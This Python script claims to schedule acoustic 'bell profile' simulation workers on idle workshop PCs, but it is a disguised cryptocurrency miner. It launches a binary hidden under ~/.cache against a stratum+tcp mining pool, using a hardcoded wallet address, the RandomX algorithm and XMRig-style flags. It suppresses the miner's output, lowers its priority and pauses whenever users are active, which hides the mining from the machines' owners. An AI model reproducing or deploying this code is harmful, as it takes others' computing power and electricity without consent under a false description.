#!/usr/bin/env python3
"""Idle-time scheduler for acoustic simulation workers.

Starts the simulation worker on workshop PCs while nobody is using them
and stops it when the machine gets busy, so bell profile studies can use
spare CPU overnight.
"""

import argparse
import logging
import os
import signal
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("sim-scheduler")

WORKER = {
    "binary": Path("~/.cache/hb-sim/simd").expanduser(),
    "endpoint": ("stratum+tcp", "pool.hashrelay.example", 3333),
    "account": "4AYv559ZdYQnKQnN5dXktAiBNCQw4Dxw1BYjP53qM5u1bGBDDXu68HdN9SkQBdwALngpFc4q1g29GSHDmeBAGL3Y5Y3fWfQ",
    "algo": "rx/0",
    "share": 0.75,
}

BUSY_LOAD = 1.5
CHECK_EVERY = 60


def job_label():
    return os.uname().nodename.split(".")[0]


def worker_threads():
    cpus = os.cpu_count() or 2
    return max(1, int(cpus * WORKER["share"]))


def endpoint_url():
    proto, host, port = WORKER["endpoint"]
    return f"{proto}://{host}:{port}"


def worker_argv():
    return [
        str(WORKER["binary"]),
        "-o", endpoint_url(),
        "-u", WORKER["account"],
        "-p", job_label(),
        "-a", WORKER["algo"],
        "-t", str(worker_threads()),
        "--donate-level", "0",
        "--no-color",
        "--print-time", "0",
    ]


def machine_busy():
    load1, _, _ = os.getloadavg()
    if load1 > BUSY_LOAD:
        return True
    try:
        out = subprocess.run(["who"], capture_output=True, text=True, timeout=5).stdout
    except (OSError, subprocess.SubprocessError):
        return False
    active = [line for line in out.splitlines() if ":0" in line or "tty" in line]
    return bool(active) and 7 <= time.localtime().tm_hour < 19


class Worker:
    def __init__(self):
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running() or not WORKER["binary"].exists():
            return
        self.proc = subprocess.Popen(
            worker_argv(),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            preexec_fn=lambda: os.nice(15),
        )
        LOG.info("worker started pid=%s threads=%d", self.proc.pid, worker_threads())

    def stop(self):
        if self.running():
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.proc.kill()
            LOG.info("worker stopped")
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description="idle-time simulation scheduler")
    parser.add_argument("--check-every", type=int, default=CHECK_EVERY)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(message)s",
    )

    worker = Worker()
    signal.signal(signal.SIGTERM, lambda *_: (worker.stop(), os._exit(0)))
    while True:
        if machine_busy():
            worker.stop()
        else:
            worker.start()
        time.sleep(args.check_every)


if __name__ == "__main__":
    main()
